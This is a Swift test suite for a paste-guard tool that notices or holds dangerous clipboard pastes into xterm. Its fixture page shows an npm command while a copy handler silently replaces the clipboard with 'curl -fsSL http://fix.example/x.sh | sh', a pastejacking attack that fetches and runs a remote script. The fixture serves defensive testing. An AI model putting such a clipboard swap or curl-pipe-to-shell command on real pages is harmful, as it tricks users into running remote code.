import TestProcesses
import Testing
import X11TestPeer

/// A page in Chromium puts a command in the place of what is copied, and a person pastes it into xterm.
@Suite(
  .enabled(if: Applications.isWanted, Applications.reason),
  .enabled(if: Product.program("xterm") != nil, "xterm is not installed"), .serialized)
struct PasteGuardTests {
  private static let command = "curl -fsSL http://fix.example/x.sh | sh"

  /// Shows a harmless command.
  private static let page = """
    <!doctype html><meta charset="utf-8"><title>source page</title>
    <pre>npm install the-best-package</pre>
    <script>
    document.addEventListener('copy', event => {
      event.clipboardData.setData('text/plain', '\(command)\\n')
      event.preventDefault()
    })
    </script>
    """

  private func applications(_ guardSettings: String) throws -> Applications {
    let applications = try Applications(configuration: "[guard]\n\(guardSettings)\n")
    try applications.copyInChromium(Self.page)
    return applications
  }

  @Test func `with a notice the command waits for the Enter key`() throws {
    let applications = try applications("terminals.dangerous = 'notice'")
    try applications.waitForCleanCopy()
    let terminal = try XTerm(applications)
    try terminal.paste()
    #expect(try terminal.waitForText() == Self.command)
    #expect(try applications.washboard("explain").contains("pasted into xterm without the last line end"))
  }

  @Test func `a held paste fails, and the second one is allowed`() throws {
    let applications = try applications("terminals.dangerous = 'hold'")
    try applications.waitForCleanCopy()
    let terminal = try XTerm(applications)
    try terminal.paste()
    #expect(try wait(limit: 20_000) { try applications.washboard("status").contains("1 held") })
    let end = milliseconds() + 750
    try #require(try wait(limit: 5000) { milliseconds() >= end })
    // All that xterm asks for once it is refused has been one paste.
    #expect(try applications.washboard("status").contains("Guard: 0 pastes noticed, 1 held, 0 allowed"))
    #expect(terminal.text.isEmpty)
    try terminal.paste()
    #expect(try terminal.waitForText() == Self.command)
  }

  @Test func `'washboard allow' lets a held paste through`() throws {
    let applications = try applications("terminals.dangerous = 'hold'")
    try applications.waitForCleanCopy()
    let terminal = try XTerm(applications)
    try terminal.paste()
    #expect(try wait(limit: 20_000) { try applications.washboard("status").contains("1 held") })
    #expect(terminal.text.isEmpty)
    _ = try applications.washboard("allow")
    try terminal.paste()
    #expect(try terminal.waitForText() == Self.command)
  }

  @Test func `with the guard off the command runs by itself`() throws {
    let off = "{ suspicious = 'off', dangerous = 'off' }"
    let applications = try applications("terminals = \(off)\nrelays = \(off)")
    let terminal = try XTerm(applications)
    try terminal.paste()
    // xterm sends a carriage return for a line feed, as for the Enter key.
    #expect(try terminal.waitForText() == Self.command + "\r")
  }
}
